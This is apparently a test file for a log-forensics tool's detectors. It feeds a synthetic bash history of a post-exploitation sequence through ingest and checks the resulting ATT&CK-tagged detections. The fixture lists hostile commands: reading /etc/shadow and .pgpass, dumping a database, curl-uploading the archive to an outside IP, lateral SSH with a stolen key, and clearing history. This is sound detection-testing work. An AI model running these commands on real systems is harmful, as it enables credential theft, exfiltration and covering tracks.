// Shell history files through the real ingest path reach the host detectors unchanged (issue 15
// §4, "shell history files when the bundle has them"): a dated .bash_history of webadmin on alpha
// (bash with HISTTIMEFORMAT) in a bundle with alpha's auth.log, read as exec events, is found by
// the same rules as auditd's execve of the same commands. Its plain (undated) twin in root's home
// is read, counted and places nothing on the timeline.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { runDetectors } from '../../../test/kits/detect';
import { addLocalUpload, createAssessment } from '../../assessments/service';
import { closeDb, getPool } from '../../db/client';
import { writeTarGz } from '../../generate/tarball';
import { runIngest } from '../../pipeline';
import { detectors } from '../registry';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sightline-history-detect-'));
afterAll(async () => {
  await closeDb();
  fs.rmSync(dir, { recursive: true, force: true });
});

const T = Date.parse('2026-12-04T20:02:00Z') / 1000;
const COMMANDS: [dt: number, line: string][] = [
  [50, 'cat ~/.pgpass; sudo cat /etc/shadow'],
  [65, 'sudo -u postgres pg_dump shopdb > /var/tmp/.cache-x/db.sql'],
  [80, 'tar czf /var/tmp/.cache-x/loot.tgz -C /var/tmp/.cache-x db.sql'],
  [100, 'curl -s --data-binary @/var/tmp/.cache-x/loot.tgz http://198.51.100.23:8080/u'],
  [130, 'scp deploy@10.20.30.11:/tmp/.s/keys.tgz /var/tmp/.cache-x/'],
  [170, 'ssh -i /var/tmp/.cache-x/id deploy@10.20.30.11 id'],
  [190, 'history -c; unset HISTFILE'],
  [195, 'rm -rf /var/tmp/.cache-x # done'],
];

it('a dated bash history is read as exec events and the post-exploitation rules find its commands', async () => {
  const files = {
    'alpha/home/webadmin/.bash_history': COMMANDS.map(([dt, line]) => `#${T + dt}\n${line}\n`).join(''),
    'alpha/root/.bash_history': 'ls\ncat /etc/shadow\n',
    'alpha/var/log/auth.log': 'Dec  4 20:02:14 alpha sshd[9811]: Accepted password for webadmin from 203.0.113.66 port 57400 ssh2\n',
  };
  const entries = Object.entries(files).map(([name, text]) => {
    const file = path.join(dir, name.replaceAll('/', '_'));
    fs.writeFileSync(file, text);
    return { file, name, owner: 'syslog' as const };
  });
  const bundle = path.join(dir, 'bundle.tar.gz');
  await writeTarGz(bundle, entries, new Date('2026-12-05T00:00:00Z'));
  const a = await createAssessment({ name: 'history detect' });
  await runIngest(await addLocalUpload({ assessmentId: a, kind: 'logs', file: bundle }));

  const { rows: sources } = await getPool().query<{ path: string; format: string; records: number; notes: string[] }>(
    'SELECT path, format, records, notes FROM source_file WHERE assessment_id = $1 ORDER BY path',
    [a],
  );
  expect(sources.map((s) => [s.path.replace(/^.*bundle\.tar\.gz:/, ''), s.format, Number(s.records)])).toEqual([
    ['alpha/home/webadmin/.bash_history', 'shell-history', 10],
    ['alpha/root/.bash_history', 'shell-history', 0],
    ['alpha/var/log/auth.log', 'syslog-rfc3164', 1],
  ]);
  expect(sources[1]?.notes).toContain(
    '2 commands without timestamps (from line 1; bash writes times only with HISTTIMEFORMAT set): read, not placed on the timeline',
  );

  const found = await runDetectors(
    a,
    detectors.filter((d) => d.source === 'logs'),
  );
  expect(found.map((d) => [d.detector, d.hostName, d.technique]).sort()).toEqual(
    [
      ['logs.archive-staging', 'alpha', 'T1560.001'],
      ['logs.database-dump', 'alpha', 'T1005'],
      ['logs.history-clear', 'alpha', 'T1070.003'],
      ['logs.indicator-removal', 'alpha', 'T1070.004'],
      // webadmin's password login from 203.0.113.66, its first from outside in the data
      ['logs.new-source-login', 'alpha', 'T1078'],
      ['logs.remote-staging', 'alpha', 'T1074.002'],
      ['logs.sensitive-file-read', 'alpha', 'T1003.008'],
      ['logs.sensitive-file-read', 'alpha', 'T1552.001'],
      // the scp pull and the ssh with the key: two sessions to beta's address (no host names it here)
      ['logs.ssh-lateral-client', '10.20.30.11', 'T1021.004'],
      ['logs.ssh-lateral-client', '10.20.30.11', 'T1021.004'],
      ['logs.tool-upload', 'alpha', 'T1048.003'],
    ].sort(),
  );
});
